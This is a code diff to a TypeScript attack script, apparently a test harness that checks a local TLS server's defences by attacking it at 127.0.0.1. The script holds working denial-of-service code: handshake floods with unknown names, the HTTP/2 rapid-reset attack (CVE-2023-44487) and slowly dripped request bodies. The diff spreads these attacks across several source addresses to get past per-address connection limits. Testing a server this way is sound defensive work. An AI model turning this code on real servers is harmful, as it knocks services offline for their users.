@@ -4,9 +4,9 @@ import { setTimeout as sleep } from 'node:timers/promises';
 import { connect, type TLSSocket } from 'node:tls';
 import type { AttackOrder, AttackSeen } from './attack.js';
 
-/** `attack-main.js ORDER`: attacks one server from an address of its own, and prints what it did, as JSON. */
+/** `attack-main.js ORDER`: attacks one server from ten addresses, and prints what it did, as JSON. */
 const { port, servedName, unknownNames } = JSON.parse(process.argv[2] ?? '') as AttackOrder; // by `attack`
-const HANDSHAKES_AT_ONCE = 8;
+const ASKERS = 8;
 const SLOW_AT_ONCE = 100;
 const RESETS_AT_ONCE = 100;
 const DRIP_MS = 100;
@@ -14,8 +14,10 @@ const DRIP_MS = 100;
 const BURST_PAUSE_MS = 20;
 const LIMIT_MS = 5_000;
 
-/** Limits of connections are for each address: a visitor who is measured has another one. */
-const target = { host: '127.0.0.1', port, localAddress: '127.0.0.2', rejectUnauthorized: false } as const;
+const target = { host: '127.0.0.1', port, rejectUnauthorized: false } as const;
+/** Machines that attack. What one address may have is limited, so each who asks for names has one of its own. */
+const [resetter, slow] = ['127.0.0.2', '127.0.0.3'];
+const asker = (index: number) => `127.0.0.${4 + index}`;
 const seen = { refusedNames: 0, resets: 0, slowBodies: 0 };
 const ending = new AbortController();
 
@@ -27,20 +29,20 @@ process.stdout.write(JSON.stringify(seen satisfies AttackSeen), () => process.ex
 
 async function askForUnknownNames(): Promise<void> {
   let next = 0;
-  const ask = async () => {
+  const ask = async (_: unknown, index: number) => {
     while (next < unknownNames) {
-      const socket = open(`unknown-${next++}.nowhere.test`, ['http/1.1']);
+      const socket = open(asker(index), `unknown-${next++}.nowhere.test`, ['http/1.1']);
       await ended(socket);
       seen.refusedNames += 1;
     }
   };
-  await Promise.all(Array.from({ length: HANDSHAKES_AT_ONCE }, ask));
+  await Promise.all(Array.from({ length: ASKERS }, ask));
 }
 
 /** CVE-2023-44487: requests that are cancelled as soon as they are made, on one session after the other. */
 async function resetRapidly(): Promise<void> {
   while (!ending.signal.aborted) {
-    const socket = open(servedName, ['h2']);
+    const socket = open(resetter, servedName, ['h2']);
     const session = connectHttp2(`https://${servedName}`, { createConnection: () => socket });
     session.on('error', () => undefined); // it is sent away, as it should be
     while (!session.closed && !session.destroyed) {
@@ -58,7 +60,7 @@ async function resetRapidly(): Promise<void> {
 
 async function dripBodies(): Promise<void> {
   while (!ending.signal.aborted) {
-    const socket = open(servedName, ['http/1.1']);
+    const socket = open(slow, servedName, ['http/1.1']);
     socket.write(`POST / HTTP/1.1\r\nHost: ${servedName}\r\nContent-Length: 1000000\r\n\r\n`);
     seen.slowBodies += 1;
     const drip = setInterval(() => socket.write('x'), DRIP_MS);
@@ -68,8 +70,9 @@ async function dripBodies(): Promise<void> {
   }
 }
 
-function open(servername: string, ALPNProtocols: string[]): TLSSocket {
-  const socket = connect({ ...target, servername, ALPNProtocols });
+function open(localAddress: string, servername: string, ALPNProtocols: string[]): TLSSocket {
+  const options = { ...target, localAddress, servername, ALPNProtocols };
+  const socket = connect(options);
   socket.on('error', () => undefined); // its close tells
   return socket.resume();
 }
